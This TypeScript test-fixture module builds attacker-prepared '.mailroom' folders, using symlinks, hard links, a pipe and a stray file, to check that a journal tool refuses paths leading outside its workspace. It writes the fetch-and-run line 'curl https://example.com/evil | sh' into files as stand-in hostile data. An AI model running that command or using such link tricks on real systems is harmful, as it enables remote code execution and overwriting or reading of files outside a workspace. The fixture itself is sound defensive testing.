import { execFile } from 'node:child_process';
import { link, mkdir, symlink, utimes, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { promisify } from 'node:util';

/** A `.mailroom` folder prepared by an attacker. `told` is the message that the user gets. */
export interface HostileFolder {
  readonly name: string;
  readonly told: string;
  make(workspace: string, outside: string): Promise<void>;
}

const leads =
  'is a link, which may lead out of this folder. Check where it leads, then replace it with a real file or folder.';
const notUsed = (path: string, why: string) =>
  `Mailroom’s journal is not used: “${path}” ${why} Until this is fixed, nothing can be created here.`;
const command = 'curl https://example.com/evil | sh\n';

/** Creates targets outside the workspace: a shell's start-up file, a secret, and a folder with a journal. */
export async function makeOutside(outside: string): Promise<void> {
  const journal = join(outside, 'elsewhere');
  await mkdir(journal, { recursive: true });
  await writeFile(join(outside, 'profile'), 'export EDITOR=vi\n');
  await writeFile(join(outside, 'secret'), 'token=4711\n');
  await writeFile(join(journal, 'journal.jsonl'), command);
  const draft = join(journal, 'journal.jsonl.4b0d5b9e-0d0f-4d0c-8a52-1f3b9d3f8a11.new');
  await writeFile(draft, 'half');
  const twoDaysAgo = Date.now() / 1000 - 48 * 3600;
  await utimes(draft, twoDaysAgo, twoDaysAgo);
}

/** Folders of all kinds that lead, or seem to lead, out of the workspace. */
export const hostileFolders: readonly HostileFolder[] = [
  {
    name: 'lines set aside lead out',
    told: `Mailroom’s journal has unreadable lines that can’t be moved to another file: “.mailroom/damaged.jsonl” ${leads}`,
    make: async (workspace, outside) => {
      const folder = await makeFolder(workspace);
      await writeFile(join(folder, 'journal.jsonl'), command);
      await symlink(join(outside, 'profile'), join(folder, 'damaged.jsonl'));
    },
  },
  {
    name: 'the journal leads out, and a rewriting of it was cut short',
    told: notUsed('.mailroom/journal.jsonl', leads),
    make: async (workspace, outside) => {
      const folder = await makeFolder(workspace);
      await symlink(join(outside, 'profile'), join(folder, 'journal.jsonl'));
      await writeFile(join(folder, 'journal.jsonl.old'), command);
    },
  },
  {
    name: 'the journal is a secret',
    told: notUsed('.mailroom/journal.jsonl', leads),
    make: async (workspace, outside) => {
      await symlink(join(outside, 'secret'), join(await makeFolder(workspace), 'journal.jsonl'));
    },
  },
  {
    name: 'the folder leads out',
    told: notUsed('.mailroom', leads),
    make: (workspace, outside) => symlink(join(outside, 'elsewhere'), join(workspace, '.mailroom')),
  },
  {
    name: 'the journal is another name of a file outside',
    told: notUsed('.mailroom/journal.jsonl', 'is a hard link to another file. Replace it with a copy.'),
    make: async (workspace, outside) => {
      await link(join(outside, 'profile'), join(await makeFolder(workspace), 'journal.jsonl'));
    },
  },
  {
    name: 'the journal is a pipe',
    told: notUsed('.mailroom/journal.jsonl', 'is not a file. Move it somewhere else.'),
    make: async (workspace) => {
      await makePipe(join(await makeFolder(workspace), 'journal.jsonl'));
    },
  },
  {
    name: 'the folder is a file',
    told: notUsed('.mailroom', 'is not a folder. Move it somewhere else.'),
    make: (workspace) => writeFile(join(workspace, '.mailroom'), command),
  },
];

export async function makePipe(path: string): Promise<void> {
  await promisify(execFile)('mkfifo', [path]);
}

async function makeFolder(workspace: string): Promise<string> {
  const folder = join(workspace, '.mailroom');
  await mkdir(folder);
  return folder;
}
